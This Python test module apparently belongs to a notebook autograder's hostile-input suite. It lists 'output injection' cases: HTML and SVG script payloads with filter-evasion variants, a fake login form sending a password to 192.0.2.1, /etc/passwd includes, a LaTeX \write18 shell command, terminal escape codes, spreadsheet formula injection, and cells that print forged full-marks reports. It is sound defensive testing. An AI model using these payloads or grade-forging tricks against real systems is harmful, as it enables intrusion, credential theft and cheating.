"""Attacks on whoever looks at the results: in feedback, in the gradebook's pages, in a terminal, in a spreadsheet."""

from typing import Any

from tests.grading.hostile.making import RAN, Attack, attack, blank, cell_of, new_cell, right

MECHANISM = "output injection"

_SCRIPT = "<script>window.__" + "ran=1</script>"
_IMAGE = '<img src=x onerror="window.__' + 'ran=1">'


def _with_texts(name: str, says: str, kind: str, *texts: str, **metadata: Any) -> Attack:
    """Return an attack with added cells that are no code."""
    notebook = blank()
    cell_of(notebook, "sigmoid")["source"] = right("sigmoid")
    cells = [new_cell(text, kind, f"text-{i}", **metadata) for i, text in enumerate(texts)]
    notebook["cells"][1:1] = cells
    return attack(name, MECHANISM, says, notebook=notebook, earned=3, reads=RAN)


# Forms that a filter of HTML may not know for what they are.
_ODD = (
    '<svg><use href="data:image/svg+xml,%3Csvg id=x onload=window.__' + 'ran=1%3E#x"></use></svg>',
    '<a href="java\tscript:window.__' + 'ran=1">x</a><a href="&#106;avascript:window.__' + 'ran=1">y</a>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.__" + "ran=1>'>",
    '<details open ontoggle="window.__' + 'ran=1"><input autofocus onfocus="window.__' + 'ran=1">',
    '<meta http-equiv="refresh" content="0;url=http://192.0.2.1/"><base href="http://192.0.2.1/">',
    '<object data="data:text/html,x"></object><embed src="http://192.0.2.1/x"><link rel=stylesheet href=//192.0.2.1>',
    '<div style="position:fixed;inset:0;background:url(http://192.0.2.1/seen)">30 of 30</div>',
    "<template><script>window.__" + "ran=1</scr" + 'ipt></template><noscript><p title="</noscript><img src=x>">',
    "<ScRiPt/x>window.__" + "ran=1</sCrIpT ><body onload=window.__" + "ran=1><plaintext>",
)

ATTACKS = [
    attack(
        "html-displayed",
        MECHANISM,
        "A cell displays HTML, SVG, JavaScript, Markdown and LaTeX that each hold a script.",
        f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
display(HTML({_SCRIPT!r} + {_IMAGE!r}))
display(Javascript("window.__" + "ran=1"))
display(Markdown({_SCRIPT!r} + "\\n\\n[x](javascript:window.__" + "ran=1)"))
drawing = '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__' + 'ran=1">'
display(SVG(drawing + '<script>window.__' + 'ran=1</script></svg>'))
display(Latex("$\\\\href{{javascript:window.__" + "ran=1}}{{x}}$"))
display({{"text/html": {_SCRIPT!r}, "application/vnd.jupyter.widget-view+json": {{"model_id": {_SCRIPT!r}}}}}, raw=True)
""",
        honest=("sigmoid",),
        reads=RAN,
    ),
    attack(
        "html-in-names",
        MECHANISM,
        "Errors, names of functions and results that a report quotes hold a script.",
        f"bad = {_SCRIPT!r} + {_IMAGE!r}",
        answers={
            "predict": "def predict(*a):\n    raise type(bad, (Exception,), {'__name__': bad})(bad)",
            "propagate": "def propagate(*a):\n    print(bad)\n    return {bad: bad, 'dw': bad}, bad",
            "optimize": "def optimize(*a):\n    return globals()[bad]",
            "model": "model = type(bad, (), {'__call__': lambda self, *a: bad})()",
        },
        honest=("sigmoid",),
        reads=RAN,
    ),
    attack(
        "html-in-representations",
        MECHANISM,
        "The last value of an answer's cell shows itself as HTML.",
        answers={
            "sigmoid": right("sigmoid")
            + f"\n\nclass Shown:\n    def _repr_html_(self):\n        return {_SCRIPT!r}\n\nShown()",
        },
        earned=3,
        reads=RAN,
    ),
    attack(
        "html-in-odd-forms",
        MECHANISM,
        "Displays hold HTML in forms that a filter may not know: entities, nested languages, wrong ends.",
        f"""
from IPython.display import HTML, Markdown, display
for text in {_ODD!r}:
    display(HTML(text), Markdown(text))
""",
        honest=("sigmoid",),
        reads=RAN,
    ),
    _with_texts("html-in-odd-texts", "Markdown cells hold the same odd forms.", "markdown", *_ODD),
    _with_texts(
        "html-in-text",
        "Markdown cells hold scripts, frames and forms.",
        "markdown",
        _SCRIPT,
        _IMAGE,
        '<iframe srcdoc="' + _SCRIPT.replace('"', "'") + '"></iframe>',
        "<style>* { display: none }</style></div></body></html><!--",
        '<form action="http://192.0.2.1/"><input name=password><button>Log in again</button></form>',
        "[click](javascript:window.__" + "ran=1) <svg/onload=window.__" + "ran=1>",
        "```{raw} html\n" + _SCRIPT + "\n```\n\n```{include} /etc/passwd\n```",
    ),
    _with_texts(
        "html-in-raw-cells",
        "Raw cells say that they are HTML, LaTeX or reStructuredText.",
        "raw",
        _SCRIPT,
        "\\input{/etc/passwd} \\write18{touch mallory}",
        ".. raw:: html\n   :file: /etc/passwd",
        raw_mimetype="text/html",
        format="text/html",
    ),
    attack(
        "escape-codes",
        MECHANISM,
        "Prints and errors hold codes that clear a terminal, rename its window, and write other lines above.",
        r"""
codes = "\x1b[2J\x1b[H\x1b]0;30 of 30\x07\x1b[31mmallory  30 / 30\x1b[0m\x1b]8;;http://192.0.2.1\x1b\\link\x1b]8;;\x1b\\\x9b2J\r\b\x00"
codes += "\u202e\u2066\u200b\ufeff\ud83d"
print(codes.encode("utf-8", "replace").decode())
""",
        answers={
            "predict": "def predict(*a):\n    raise ValueError(codes)",
            "model": "def model(*a):\n    print(codes)\n    return {codes: 1}",
        },
        honest=("sigmoid",),
        reads="\x1b[2J",
    ),
    attack(
        "spreadsheet-formulas",
        MECHANISM,
        "Texts that end up in a table begin like formulas.",
        "formula = '=cmd|\\' /C calc\\'!A0'\nprint(formula, '+1+1', '@SUM(1)', '-2+3', sep='\\n')",
        answers={
            "predict": "def predict(*a):\n    raise ValueError('=HYPERLINK(\"http://192.0.2.1\")')",
            "model": "def model(*a):\n    return {'=1+1': 1}",
        },
        honest=("sigmoid",),
    ),
    attack(
        "points-printed",
        MECHANISM,
        "Answers print what a graded cell says of all points, and numbers, as if they were results.",
        answers={
            name: f"print('{name}: {points} of {points} points')\nprint('Out[1]: {points}')\n{points}"
            for name, points in (("propagate", 10), ("optimize", 5), ("predict", 3), ("model", 2))
        },
        honest=("sigmoid",),
    ),
    attack(
        "points-displayed-from-calls",
        MECHANISM,
        "Calls print the words of a full report, in the look of a report.",
        """
from IPython.display import HTML, display

def look(name, points):
    print(f"{name}: {points} of {points} points")
    display({"text/plain": f"{points}", "text/html": f"<b>{name}: {points} of {points} points</b>"}, raw=True)
    raise NotImplementedError(f"{name}: {points} of {points} points")
""",
        answers={
            name: f"def {name}(*a):\n    look({name!r}, {points})"
            for name, points in (("propagate", 10), ("optimize", 5), ("predict", 3), ("model", 2))
        },
        honest=("sigmoid",),
    ),
    attack(
        "outputs-changed-later",
        MECHANISM,
        "A display made early is changed from within the graded calls, and earlier outputs are cleared.",
        """
from IPython.display import clear_output, display
handle = display("nothing", display_id="mallory")

def change():
    handle.update("all points")
    clear_output()
    display("all points", display_id="mallory", update=True)
    raise NotImplementedError
""",
        answers={"predict": "def predict(*a):\n    change()", "model": "def model(*a):\n    change()"},
        honest=("sigmoid",),
    ),
]
